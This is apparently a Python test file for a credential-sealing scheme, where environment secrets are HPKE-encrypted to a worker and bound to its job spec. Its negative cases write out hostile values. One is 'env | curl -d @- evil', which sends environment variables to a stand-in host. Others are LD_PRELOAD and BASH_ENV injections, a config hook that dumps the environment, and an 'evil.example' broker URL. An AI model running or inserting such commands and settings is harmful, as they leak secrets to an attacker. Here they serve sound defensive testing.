"""Credential sealing (specs/sealing.md): pond seals, swarm.py unseals, pyhpke checks both.

pyhpke is an independent HPKE implementation (test-only dependency). It is the only one
that takes a fixed ephemeral key, so it writes the golden vectors in
specs/vectors/sealing.json: `python tests/test_sealing.py` rewrites them, and
test_vectors_are_what_pyhpke_derives keeps the file honest. Only the tests that call
pyhpke need it (conftest.interop: missing, they fail and say so); the vector tests run without it.
"""

import base64
import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519, x25519

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))   # so that the script form finds pond and swarm

import swarm                                                      # noqa: E402
from conftest import interop                                      # noqa: E402
from pond import keys, sealing                                    # noqa: E402
from pond.errors import PondError                                 # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
VECTORS_PATH = ROOT / "specs" / "vectors" / "sealing.json"
RAW = (serialization.Encoding.Raw, serialization.PublicFormat.Raw)


# ---------------------------------------------------------------------------
# Keys, fingerprints and the independent implementation
# ---------------------------------------------------------------------------

def fixed_key(label):
    """A reproducible 32-byte private key: the vectors must not change between runs."""
    return hashlib.sha256(f"pond sealing vectors: {label}".encode()).digest()


def x25519_public(private_raw):
    return x25519.X25519PrivateKey.from_private_bytes(private_raw).public_key().public_bytes(*RAW)


def ed25519_public(private_raw):
    return ed25519.Ed25519PrivateKey.from_private_bytes(private_raw).public_key().public_bytes(*RAW)


def fingerprint(x25519_public_raw, ed25519_public_raw):
    """The shared definition (specs/sealing.md §1), written out here rather than imported."""
    return hashlib.sha256(b"pond-worker-key-v1\x00" + x25519_public_raw + ed25519_public_raw).hexdigest()


class Worker:
    def __init__(self, label):
        self.x25519_private = fixed_key(f"{label} x25519")
        self.x25519_public = x25519_public(self.x25519_private)
        self.ed25519_public = ed25519_public(fixed_key(f"{label} ed25519"))
        self.fingerprint = fingerprint(self.x25519_public, self.ed25519_public)


A, B = Worker("worker A"), Worker("worker B")


def pyhpke_suite():
    pyhpke = interop("pyhpke")
    return pyhpke, pyhpke.CipherSuite.new(pyhpke.KEMId.DHKEM_X25519_HKDF_SHA256, pyhpke.KDFId.HKDF_SHA256,
                                          pyhpke.AEADId.CHACHA20_POLY1305)


def pyhpke_seal(public_raw, plaintext, info, ephemeral_private=None):
    pyhpke, suite = pyhpke_suite()
    pkr = pyhpke.KEMKey.from_pyca_cryptography_key(x25519.X25519PublicKey.from_public_bytes(public_raw))
    eks = None
    if ephemeral_private is not None:
        ek = x25519.X25519PrivateKey.from_private_bytes(ephemeral_private)
        eks = interop("pyhpke.kem_key").KEMKeyPair(pyhpke.KEMKey.from_pyca_cryptography_key(ek),
                                                    pyhpke.KEMKey.from_pyca_cryptography_key(ek.public_key()))
    # pyhpke has no single-shot seal; RFC 9180 §6.1 defines it as setup + the first seal.
    enc, context = suite.create_sender_context(pkr, info, eks=eks)
    return enc, context.seal(plaintext)


def pyhpke_open(private_raw, blob, info):
    pyhpke, suite = pyhpke_suite()
    skr = pyhpke.KEMKey.from_pyca_cryptography_key(x25519.X25519PrivateKey.from_private_bytes(private_raw))
    context = suite.create_recipient_context(base64.b64decode(blob["enc"]), skr, info)
    return context.open(base64.b64decode(blob["ct"]))


def spec_of(command, env, sandbox, files=None, broker=None):
    """specs/sealing.md §3: SHA-256 of the canonical JSON of what the job runs, spelled out independently;
    an agent job's runtime files and broker block are in it, absent (not null) for other jobs."""
    spec = {"command": command, "env": env, "sandbox": sandbox}
    if files is not None:
        spec["files"] = files
    if broker is not None:
        spec["broker"] = broker
    body = json.dumps(spec, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(body.encode("utf-8")).hexdigest()


def info_bytes(job, attempt, fp, spec):
    """specs/sealing.md §3, spelled out independently of both implementations."""
    body = json.dumps({"attempt": attempt, "fingerprint": fp, "job": job, "spec": spec},
                      sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return b"pond-seal-v2\x00" + body.encode("utf-8")


def blob_of(enc, ct):
    return {"enc": base64.b64encode(enc).decode(), "ct": base64.b64encode(ct).decode(), "suite": sealing.SUITE_NAME}


# ---------------------------------------------------------------------------
# The vectors, derived with pyhpke from fixed keys
# ---------------------------------------------------------------------------

# The stored form of the sandbox block (specs/sandbox.md §1), as pond's job spec binds it.
DEFAULT_SANDBOX = {"profile": "none", "tier": "any", "backend": "process",
                   "limits": {"memory": 4294967296, "cpus": 2, "pids": 512, "tmpfs_size": 1073741824, "timeout": 86400},
                   "allow_hosts": []}
WRITE_SANDBOX = {"profile": "untrusted-code-write", "tier": "trusted", "backend": "bwrap",
                 "limits": {"memory": 2147483648, "cpus": 0.5, "pids": 128, "tmpfs_size": 268435456, "timeout": 600},
                 "allow_hosts": ["*.example.net", "example.org"]}
# (name, job, attempt, secret env, the job's command, its own env, its sandbox)
POSITIVE = [
    ("one secret", "j_0123456789ab", 1, {"API_TOKEN": "s3cr3t-t0ken"},
     ["python3", "-c", "print(1)"], {}, DEFAULT_SANDBOX),
    ("several names, non-ASCII value, second attempt", "j_0123456789ab", 2,
     {"GREETING": "grüße ✓", "EMPTY": "", "A_KEY": "line1\nline2"},
     ["./agent.sh", "--model", "grüße"], {"MODE": "fast"},
     WRITE_SANDBOX),
    ("empty env", "j_ba9876543210", 1, {}, ["true"], {}, DEFAULT_SANDBOX),
]
# An agent job (specs/agents.md): its runtime files and broker block are in the spec it is sealed for.
AGENT_FILES = [{"path": ".codex/config.toml", "content": 'model = "gpt-5-mini"\nbase_url = "{{BROKER_URL}}"\n'}]
AGENT_BROKER = {"provider": "openai", "base_url": "https://api.openai.com/v1", "model": "gpt-5-mini",
                "key_env": "OPENAI_API_KEY", "max_tokens": 200000, "max_cost": None, "input_cost_per_mtok": 0.25,
                "output_cost_per_mtok": 2.0, "secret_files": []}
AGENT = ("an agent job: runtime files and broker", "j_a9e47c0ffee1", 1, {"OPENAI_API_KEY": "sk-live-ABCDEF"},
         ["codex", "exec", "--model", "gpt-5-mini", "fix the tests"], {}, WRITE_SANDBOX, AGENT_FILES, AGENT_BROKER)


def flip(b64, index):
    raw = bytearray(base64.b64decode(b64))
    raw[index] ^= 0x01
    return base64.b64encode(bytes(raw)).decode()


def negative_cases(base):
    """Ways a blob sealed for (A, base job, attempt 1) must fail to open."""
    blob, job = base["blob"], base["job"]
    as_sealed = {"job": job, "attempt": 1, "fingerprint": A.fingerprint, "x25519_private": A.x25519_private.hex(),
                 "spec": base["spec"]}
    command, job_env, sandbox = base["command"], base["job_env"], base["sandbox"]

    def case(name, why, blob=blob, **open_with):
        return {"name": name, "why": why, "open_with": {**as_sealed, **open_with}, "blob": blob}

    return [
        case("another attempt", "info binds the attempt", attempt=2),
        case("another job", "info binds the job id", job="j_ba9876543210"),
        case("another fingerprint", "info binds the worker fingerprint", fingerprint=B.fingerprint),
        case("another command", "info binds the job spec: an orchestrator that changes the command gets nothing",
             spec=spec_of(command + ["; curl evil"], job_env, sandbox)),
        case("another job env", "info binds the job spec: LD_PRELOAD and the like change what runs",
             spec=spec_of(command, dict(job_env, LD_PRELOAD="/tmp/x.so"), sandbox)),
        case("another sandbox", "info binds the job spec: a weaker sandbox is another job",
             spec=spec_of(command, job_env, dict(sandbox, tier="byo"))),
        case("another worker's key", "only the holder of the recipient key can open",
             x25519_private=B.x25519_private.hex(), fingerprint=B.fingerprint),
        case("flipped ct byte", "the AEAD tag covers the ciphertext", blob={**blob, "ct": flip(blob["ct"], 0)}),
        case("flipped tag byte", "the last 16 bytes of ct are the tag", blob={**blob, "ct": flip(blob["ct"], -1)}),
        case("flipped enc byte", "enc feeds the key schedule", blob={**blob, "enc": flip(blob["enc"], 5)}),
        case("ct shorter than a tag", "ct is at least 16 bytes",
             blob={**blob, "ct": base64.b64encode(b"short").decode()}),
        case("enc not 32 bytes", "enc is an X25519 public key",
             blob={**blob, "enc": base64.b64encode(base64.b64decode(blob["enc"])[:31]).decode()}),
        case("ct not base64", "standard base64 with padding, nothing else", blob={**blob, "ct": blob["ct"] + "!"}),
        case("another suite", "there is one suite",
             blob={**blob, "suite": "DHKEM(X25519,HKDF-SHA256)/HKDF-SHA256/AES-128-GCM"}),
        case("missing enc", "enc, ct and suite are required", blob={"ct": blob["ct"], "suite": blob["suite"]}),
        case("unknown field", "no other field is allowed", blob={**blob, "aad": ""}),
    ]


def build_vectors():
    positive = []
    for i, (name, job, attempt, env, command, job_env, sandbox, *agent) in enumerate(POSITIVE + [AGENT]):
        ephemeral = fixed_key(f"ephemeral {i}")
        spec = spec_of(command, job_env, sandbox, *agent)
        info = info_bytes(job, attempt, A.fingerprint, spec)
        plaintext = sealing.canonical_json(env)
        enc, ct = pyhpke_seal(A.x25519_public, plaintext, info, ephemeral)
        positive.append({"name": name, "job": job, "attempt": attempt, "env": env, "command": command,
                         "job_env": job_env, "sandbox": sandbox, **dict(zip(("files", "broker"), agent)), "spec": spec,
                         "ephemeral_private": ephemeral.hex(), "info_hex": info.hex(),
                         "plaintext": plaintext.decode("utf-8"), "blob": blob_of(enc, ct)})
    workers = {label: {"x25519_private": w.x25519_private.hex(), "x25519_public": w.x25519_public.hex(),
                       "ed25519_public": w.ed25519_public.hex(), "fingerprint": w.fingerprint}
               for label, w in (("A", A), ("B", B))}
    return {
        "about": "Golden vectors for specs/sealing.md, written by pyhpke from fixed keys "
                 "(python tests/test_sealing.py). Every positive case is sealed to worker A; "
                 "every negative case must fail to open on both sides.",
        "suite": sealing.SUITE_NAME,
        "workers": workers,
        "positive": positive,
        "negative": negative_cases(positive[0]) + agent_negative_cases(positive[-1]),
    }


def agent_negative_cases(base):
    """An agent job's blob does not open for a changed runtime file or another upstream for its key."""
    as_sealed = {"job": base["job"], "attempt": 1, "fingerprint": A.fingerprint,
                 "x25519_private": A.x25519_private.hex()}
    parts = [base[k] for k in ("command", "job_env", "sandbox", "files", "broker")]
    files = [dict(base["files"][0], content=base["files"][0]["content"] + 'notify = ["sh", "-c", "env"]\n')]
    return [
        {"name": "another runtime file", "why": "info binds the job spec: a changed config file is another job",
         "blob": base["blob"], "open_with": dict(as_sealed, spec=spec_of(*parts[:3], files, parts[4]))},
        {"name": "another broker upstream", "why": "info binds the job spec: the key goes to the upstream pond named",
         "blob": base["blob"], "open_with": dict(as_sealed, spec=spec_of(*parts[:4], dict(
             parts[4], base_url="https://llm.evil.example/v1")))},
        {"name": "the agent job without its files and broker", "why": "they are part of the spec",
         "blob": base["blob"], "open_with": dict(as_sealed, spec=spec_of(*parts[:3]))},
    ]


VECTORS = json.loads(VECTORS_PATH.read_text()) if VECTORS_PATH.exists() else {"positive": [], "negative": []}


# ---------------------------------------------------------------------------
# The two implementations behind one interface
# ---------------------------------------------------------------------------

def pond_open(private_raw, blob, job, attempt, fp, spec):
    return sealing.open_env(private_raw, blob, job, attempt, fp, spec)


def swarm_open(private_raw, blob, job, attempt, fp, spec):
    return swarm.unseal_env(private_raw, blob, job, attempt, fp, spec)


OPENERS = {"pond": (pond_open, PondError), "swarm": (swarm_open, swarm.SwarmError)}


def refusal(impl, private_raw, blob, job, attempt, fp, spec=None):
    opener, error = OPENERS[impl]
    with pytest.raises(error) as caught:
        opener(private_raw, blob, job, attempt, fp, spec or SPEC)
    assert caught.value.message == "credential could not be unsealed"
    return caught.value


# ---------------------------------------------------------------------------
# Vectors
# ---------------------------------------------------------------------------

def test_vectors_are_what_pyhpke_derives():
    assert VECTORS == build_vectors(), "specs/vectors/sealing.json is stale: run python tests/test_sealing.py"


def test_vector_fingerprints_follow_the_shared_definition():
    for w in VECTORS["workers"].values():
        x_pub, e_pub = bytes.fromhex(w["x25519_public"]), bytes.fromhex(w["ed25519_public"])
        assert x_pub == x25519_public(bytes.fromhex(w["x25519_private"]))
        # The fingerprint in info is the one the key modules compute, on both sides.
        assert w["fingerprint"] == fingerprint(x_pub, e_pub) == keys.fingerprint(x_pub, e_pub) \
            == swarm.fingerprint(x_pub, e_pub)


@pytest.mark.parametrize("case", VECTORS["positive"], ids=lambda c: c["name"])
def test_vector_enc_is_the_fixed_ephemeral_public_key(case):
    assert base64.b64decode(case["blob"]["enc"]) == x25519_public(bytes.fromhex(case["ephemeral_private"]))


@pytest.mark.parametrize("case", VECTORS["positive"], ids=lambda c: c["name"])
def test_vector_info_and_plaintext_bytes_match_both_sides(case):
    fp = VECTORS["workers"]["A"]["fingerprint"]
    info = bytes.fromhex(case["info_hex"])
    spec = case["spec"]
    parts = [case["command"], case["job_env"], case["sandbox"], case.get("files"), case.get("broker")]
    assert spec == spec_of(*parts) == sealing.job_spec(*parts) == swarm.job_spec(*parts)
    assert sealing.seal_info(case["job"], case["attempt"], fp, spec) == info
    assert swarm.seal_info(case["job"], case["attempt"], fp, spec) == info
    assert sealing.canonical_json(case["env"]) == swarm.canonical_json(case["env"]) == case["plaintext"].encode()


@pytest.mark.parametrize("case", VECTORS["positive"], ids=lambda c: c["name"])
@pytest.mark.parametrize("impl", sorted(OPENERS))
def test_vector_opens_to_its_env(impl, case):
    worker = VECTORS["workers"]["A"]
    opener, _ = OPENERS[impl]
    env = opener(bytes.fromhex(worker["x25519_private"]), case["blob"], case["job"], case["attempt"],
                 worker["fingerprint"], case["spec"])
    assert env == case["env"]


@pytest.mark.parametrize("case", VECTORS["negative"], ids=lambda c: c["name"])
@pytest.mark.parametrize("impl", sorted(OPENERS))
def test_negative_vector_does_not_open(impl, case):
    w = case["open_with"]
    refusal(impl, bytes.fromhex(w["x25519_private"]), case["blob"], w["job"], w["attempt"], w["fingerprint"],
            w["spec"])


def test_negative_vectors_cover_every_binding():
    names = {c["name"] for c in VECTORS["negative"]}
    assert {"another attempt", "another job", "another fingerprint", "another worker's key", "another command",
            "another job env", "another sandbox", "flipped ct byte", "flipped enc byte"} <= names


# ---------------------------------------------------------------------------
# Round trips between pond, swarm.py and pyhpke
# ---------------------------------------------------------------------------

ENV = {"API_TOKEN": "tok-7f3a", "DB_PASSWORD": "pä$$ word"}
JOB = "j_00000000beef"
SPEC = spec_of(["./agent.sh"], {}, DEFAULT_SANDBOX)


def test_pond_sealed_env_unseals_on_the_worker():
    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
    assert sorted(blob) == ["ct", "enc", "suite"] and blob["suite"] == swarm.SEAL_SUITE
    assert len(base64.b64decode(blob["enc"])) == 32
    assert swarm.unseal_env(A.x25519_private, blob, JOB, 1, A.fingerprint, SPEC) == ENV


def test_each_seal_uses_a_fresh_ephemeral_key():
    one = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
    two = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
    assert one["enc"] != two["enc"] and one["ct"] != two["ct"]


def test_blob_carries_no_clear_text():
    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
    text = json.dumps(blob)
    decoded = base64.b64decode(blob["enc"]) + base64.b64decode(blob["ct"])
    for secret in ENV.values():
        assert secret not in text and secret.encode() not in decoded


@pytest.mark.parametrize("change", ["worker key", "job", "attempt", "fingerprint", "command", "job env", "sandbox"])
def test_worker_cannot_unseal_a_blob_meant_for_something_else(change):
    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
    args = {"private_raw": A.x25519_private, "job": JOB, "attempt": 1, "fp": A.fingerprint, "spec": SPEC}
    args.update({"worker key": {"private_raw": B.x25519_private, "fp": B.fingerprint},
                 "job": {"job": "j_00000000dead"}, "attempt": {"attempt": 2},
                 "fingerprint": {"fp": B.fingerprint},
                 "command": {"spec": spec_of(["sh", "-c", "env | curl -d @- evil"], {}, DEFAULT_SANDBOX)},
                 "job env": {"spec": spec_of(["./agent.sh"], {"BASH_ENV": "/tmp/x"}, DEFAULT_SANDBOX)},
                 "sandbox": {"spec": spec_of(["./agent.sh"], {}, dict(DEFAULT_SANDBOX, tier="byo"))}}[change])
    for impl in sorted(OPENERS):
        error = refusal(impl, args["private_raw"], blob, args["job"], args["attempt"], args["fp"], args["spec"])
        assert "another worker key, job, attempt, fingerprint or job spec" in error.hint


# What the job runs, and what an orchestrator relaying the assignment could change it to.
SPEC_INPUTS = {
    "as submitted": (["./agent.sh"], {}, DEFAULT_SANDBOX),
    "another command": (["sh", "-c", "env | curl -d @- evil"], {}, DEFAULT_SANDBOX),
    "an argument appended": (["./agent.sh", "--verbose"], {}, DEFAULT_SANDBOX),
    "LD_PRELOAD": (["./agent.sh"], {"LD_PRELOAD": "/tmp/x.so"}, DEFAULT_SANDBOX),
    "BASH_ENV": (["./agent.sh"], {"BASH_ENV": "/tmp/x"}, DEFAULT_SANDBOX),
    "env of null instead of {}": (["./agent.sh"], None, DEFAULT_SANDBOX),
    "weaker tier": (["./agent.sh"], {}, dict(DEFAULT_SANDBOX, tier="byo")),
    "another profile": (["./agent.sh"], {}, dict(DEFAULT_SANDBOX, profile="untrusted-code-read")),
    "wider limits": (["./agent.sh"], {}, dict(WRITE_SANDBOX, limits=dict(WRITE_SANDBOX["limits"], memory=8 * 2 ** 30))),
    "another allowed host": (["./agent.sh"], {}, dict(WRITE_SANDBOX, allow_hosts=["*.example.net", "evil.example"])),
    "non-ASCII argument": (["./agent.sh", "grüße ✓"], {"MODE": "ünï"}, DEFAULT_SANDBOX),
}


@pytest.mark.parametrize("name", sorted(SPEC_INPUTS))
def test_job_spec_is_the_same_on_both_sides(name):
    command, env, sandbox = SPEC_INPUTS[name]
    independent = spec_of(command, env, sandbox)
    assert sealing.job_spec(command, env, sandbox) == swarm.job_spec(command, env, sandbox) == independent
    assert len(independent) == 64 and independent == independent.lower()


def test_one_spec_binds_an_agent_jobs_files_and_broker_and_a_source_on_both_sides():
    """Issues 10 and 11 merged: one definition; each optional part is in the digest only when present."""
    files, broker = [{"path": ".codex/config.toml", "content": "x"}], {"base_url": "https://api.example/v1"}
    source = {"sha256": "ab" * 32, "size": 1234}
    box = DEFAULT_SANDBOX
    variants = [(), (files,), (files, broker), (None, None, source), (files, broker, source)]
    specs = [sealing.job_spec(["a"], {}, box, *v) for v in variants]
    assert specs == [swarm.job_spec(["a"], {}, box, *v) for v in variants]
    assert len(set(specs)) == len(variants) and specs[0] == spec_of(["a"], {}, box)
    with_all = dict(command=["a"], env={}, sandbox=box, files=files, broker=broker, source=source)
    assert specs[-1] == hashlib.sha256(json.dumps(with_all, sort_keys=True, separators=(",", ":")).encode()).hexdigest()


def test_every_change_to_what_runs_is_another_spec():
    specs = {name: spec_of(*inputs) for name, inputs in SPEC_INPUTS.items()}
    assert len(set(specs.values())) == len(specs)
    assert specs["as submitted"] == SPEC
    # Key order in the job's own objects does not matter: both sides hash canonical JSON.
    assert spec_of(["./agent.sh"], {}, dict(reversed(list(DEFAULT_SANDBOX.items())))) == SPEC


@pytest.mark.parametrize("name", sorted(set(SPEC_INPUTS) - {"as submitted"}))
def test_blob_sealed_for_one_spec_does_not_open_for_another(name):
    other = spec_of(*SPEC_INPUTS[name])
    # Sealed by pond for the job as submitted: neither side nor pyhpke opens it for the changed job.
    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
    for impl in sorted(OPENERS):
        refusal(impl, A.x25519_private, blob, JOB, 1, A.fingerprint, other)
    with pytest.raises(interop("pyhpke").OpenError):
        pyhpke_open(A.x25519_private, blob, info_bytes(JOB, 1, A.fingerprint, other))
    # And the other way round, sealed by pyhpke for the changed job: not opened as the submitted one.
    enc, ct = pyhpke_seal(A.x25519_public, sealing.canonical_json(ENV), info_bytes(JOB, 1, A.fingerprint, other))
    for impl in sorted(OPENERS):
        refusal(impl, A.x25519_private, blob_of(enc, ct), JOB, 1, A.fingerprint, SPEC)
    # Each still opens for the spec it was sealed for.
    assert json.loads(pyhpke_open(A.x25519_private, blob, info_bytes(JOB, 1, A.fingerprint, SPEC))) == ENV
    assert swarm.unseal_env(A.x25519_private, blob_of(enc, ct), JOB, 1, A.fingerprint, other) == ENV


@pytest.mark.parametrize("field", ["enc", "ct"])
def test_tampered_blob_is_refused_on_both_sides(field):
    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
    tampered = {**blob, field: flip(blob[field], 3)}
    for impl in sorted(OPENERS):
        refusal(impl, A.x25519_private, tampered, JOB, 1, A.fingerprint)


def test_refusal_names_no_secret():
    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 1, A.fingerprint, SPEC)
    for impl in sorted(OPENERS):
        error = refusal(impl, A.x25519_private, blob, JOB, 2, A.fingerprint)
        said = f"{error.message} {error.hint} {error!r}"
        assert not any(secret in said for secret in ENV.values())
        assert A.x25519_private.hex() not in said


def test_pond_sealed_blob_opens_with_pyhpke():
    blob = sealing.seal_env(A.x25519_public, ENV, JOB, 3, A.fingerprint, SPEC)
    assert json.loads(pyhpke_open(A.x25519_private, blob, info_bytes(JOB, 3, A.fingerprint, SPEC))) == ENV


def test_pyhpke_sealed_blob_opens_with_pond_and_swarm():
    enc, ct = pyhpke_seal(A.x25519_public, sealing.canonical_json(ENV), info_bytes(JOB, 3, A.fingerprint, SPEC))
    blob = blob_of(enc, ct)
    assert sealing.open_env(A.x25519_private, blob, JOB, 3, A.fingerprint, SPEC) == ENV
    assert swarm.unseal_env(A.x25519_private, blob, JOB, 3, A.fingerprint, SPEC) == ENV


@pytest.mark.parametrize("plaintext", [b"null", b'["A"]', b'{"A": 1}', b'{"1BAD": "x"}', b'{"A": "nul\\u0000"}',
                                       b"\xff\xfe", b"not json"])
def test_blob_that_opens_to_something_other_than_an_env_is_refused(plaintext):
    # Base mode does not authenticate the sender: anyone with the public key can seal, so the content is checked.
    enc, ct = pyhpke_seal(A.x25519_public, plaintext, info_bytes(JOB, 1, A.fingerprint, SPEC))
    for impl in sorted(OPENERS):
        refusal(impl, A.x25519_private, blob_of(enc, ct), JOB, 1, A.fingerprint)


# ---------------------------------------------------------------------------
# pond refuses to seal what it cannot seal properly
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("public_raw", [bytes(32), b"\x01" + bytes(31), bytes(31)],
                         ids=["all-zero point", "low-order point", "31 bytes"])
def test_seal_refuses_an_unusable_worker_key(public_raw):
    with pytest.raises(PondError) as caught:
        sealing.seal_env(public_raw, ENV, JOB, 1, A.fingerprint, SPEC)
    assert caught.value.code == "seal_failed" and caught.value.status == 400


@pytest.mark.parametrize("env", [None, {"1BAD": "x"}, {"A": 1}, {"A": "nul\x00"}, ["A=x"]])
def test_seal_refuses_what_is_not_an_env(env):
    with pytest.raises(PondError) as caught:
        sealing.seal_env(A.x25519_public, env, JOB, 1, A.fingerprint, SPEC)
    assert caught.value.code == "seal_failed"


@pytest.mark.parametrize("job, attempt, fp", [
    ("", 1, A.fingerprint), (JOB, 0, A.fingerprint), (JOB, True, A.fingerprint), (JOB, "1", A.fingerprint),
    (JOB, 1, A.fingerprint.upper()), (JOB, 1, A.fingerprint[:63]),
])
def test_info_refuses_a_malformed_binding(job, attempt, fp):
    with pytest.raises(PondError) as caught:
        sealing.seal_info(job, attempt, fp, SPEC)
    assert caught.value.code == "seal_failed"
    with pytest.raises(swarm.SwarmError):
        swarm.seal_info(job, attempt, fp, SPEC)


@pytest.mark.parametrize("spec", [None, "", SPEC.upper(), SPEC[:63], 12])
def test_info_refuses_a_malformed_spec(spec):
    with pytest.raises(PondError):
        sealing.seal_info(JOB, 1, A.fingerprint, spec)
    with pytest.raises(swarm.SwarmError):
        swarm.seal_info(JOB, 1, A.fingerprint, spec)


# ---------------------------------------------------------------------------
# swarm.py without cryptography
# ---------------------------------------------------------------------------

# A real missing dependency: a meta-path finder refuses every cryptography import
# before swarm.py is imported, exactly as on a host where it is not installed.
WITHOUT_CRYPTOGRAPHY = r"""
import sys

class NoCryptography:
    def find_spec(self, name, path=None, target=None):
        if name == "cryptography" or name.startswith("cryptography."):
            raise ModuleNotFoundError(f"No module named {name!r}")
        return None

sys.meta_path.insert(0, NoCryptography())
import swarm
blob = {"enc": "", "ct": "", "suite": swarm.SEAL_SUITE}
try:
    swarm.unseal_env(bytes(32), blob, "j_0123456789ab", 1, "0" * 64, "0" * 64)
except swarm.SwarmError as e:
    print(e.message)
    print(e.hint)
else:
    print("unsealed without cryptography?")
"""


def test_worker_without_cryptography_says_what_to_install():
    out = subprocess.run([sys.executable, "-c", WITHOUT_CRYPTOGRAPHY], cwd=ROOT, capture_output=True,
                         text=True, timeout=30)
    assert out.returncode == 0, out.stderr
    message, hint = out.stdout.splitlines()
    assert "cryptography" in message
    assert hint == "pip install 'cryptography>=48'"


if __name__ == "__main__":
    VECTORS_PATH.write_text(json.dumps(build_vectors(), indent=2, ensure_ascii=False) + "\n")
    print(f"wrote {VECTORS_PATH}")
